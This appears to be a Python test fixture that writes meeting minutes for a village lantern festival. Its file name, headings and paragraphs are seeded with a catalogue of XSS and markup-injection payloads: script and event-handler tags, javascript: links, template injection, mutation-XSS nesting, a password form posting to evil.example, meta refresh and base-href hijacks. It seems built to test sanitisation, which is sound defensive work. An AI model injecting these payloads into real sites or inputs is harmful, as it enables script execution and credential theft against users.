"""Minutes by somebody who wishes the reader ill: every way known to us of making a page do something."""

from __future__ import annotations

EVIL = "https://evil.example"
PAYLOADS = (
    f"<img src={EVIL}/a.png onerror=window.hit=1>",
    "<script>window.hit=2</script>",
    f"<script src={EVIL}/b.js></script>",
    f"<svg onload=window.hit=3><image href={EVIL}/c.png></image></svg>",
    f"<form action={EVIL}/d><input name=password><button>Sign in</button></form>",
    f"<iframe src={EVIL}/e></iframe>",
    f"<object data={EVIL}/f></object>",
    f"<embed src={EVIL}/g>",
    f"<video src={EVIL}/h autoplay></video>",
    f"<audio src={EVIL}/i autoplay></audio>",
    f"<link rel=stylesheet href={EVIL}/j.css>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/k">',
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>overlay</div>",
    f"<style>@import '{EVIL}/l.css'; body {{ display: none }}</style>",
    f"![picture]({EVIL}/m.png)",
    f"[a link]({EVIL}/n) <a href='javascript:window.hit=4'>here</a>",
    f'```mermaid graph TD; A["<img src={EVIL}/o.png>"] ```',
    f'"><img src={EVIL}/p.png onload=window.hit=5>',
    "</textarea></mark></button><b>bold</b>",
    "${window.hit=6} {{window.hit}} {{{this}}} `${window.hit=7}`",
    "&lt;img src=x onerror=window.hit=8&gt; &#60;b&#62;",
    f"$$\\href{{{EVIL}/q}}{{x}}$$ \\(\\includegraphics{{{EVIL}/r.png}}\\)",
    "<template><img src=x onerror=window.hit=9></template><noscript><p title='</noscript><img src=x>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=10></style></mglyph></table></math>",
)
HOSTILE_COUNCIL = "<iframe src=https://evil.example/s onload=window.hit=13></iframe> Council"
HOSTILE_BODY = "<img src=https://evil.example/t onerror=window.hit=14> ${window.hit=15} Committee"
FILE_NAME = "<img src=x onerror=window.hit=11> ${window.hit=12} 2018.txt"


def write_hostile_minutes(folder):
    """Minutes of a lantern festival in which names, titles and paragraphs are hostile; returns their file."""
    paragraphs = [
        f"4.{n}  The lantern festival was discussed: {payload}" for n, payload in enumerate(PAYLOADS, 1)
    ]
    lines = [
        "Ambridge Parish Council",
        "Village Green Committee - Monday 5 March 2018 7.00 pm",
        "05/03/2018 - Lantern festival <svg onload=window.hit=16>",
        *paragraphs,
    ]
    file = folder / FILE_NAME
    file.write_text("\n\n\n".join(lines), encoding="utf-8")
    return file
